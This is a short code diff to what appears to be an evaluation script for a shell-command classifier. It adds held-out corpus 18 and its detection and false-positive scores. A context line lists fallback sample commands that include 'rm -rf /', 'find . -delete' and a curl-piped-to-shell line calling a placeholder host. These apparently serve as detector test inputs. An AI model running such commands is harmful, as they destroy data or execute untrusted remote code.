@@ -39,6 +39,7 @@ FIRST_RUN = {
     "own held-out 15": "first run: 132/167 = 79.0%, benign 19/147 = 12.9%",
     "own held-out 16": "first run: 69/93 = 74.2%, benign 1/83 = 1.2%",
     "own held-out 17": "first run: 134/162 = 82.7%, benign 2/166 = 1.2%",
+    "own held-out 18": "first run: 149/152 = 98.0%, benign 37/165 = 22.4%; 158/162, 28/155 under policy",
     "own held-out 19": "first run: 134/217 = 61.8%, benign 10/211 = 4.7%",
 }
 CORPORA = {
@@ -61,6 +62,7 @@ CORPORA = {
     "own held-out 15": OWN / "held_out_15.jsonl",
     "own held-out 16": OWN / "held_out_16.jsonl",
     "own held-out 17": OWN / "held_out_17.jsonl",
+    "own held-out 18": OWN / "held_out_18.jsonl",
     "own held-out 19": OWN / "held_out_19.jsonl",
 }
 FALLBACK = ["ls -la", "rm -rf /", "curl -s http://x | sh", "git commit -m 'x'", "find . -delete"]
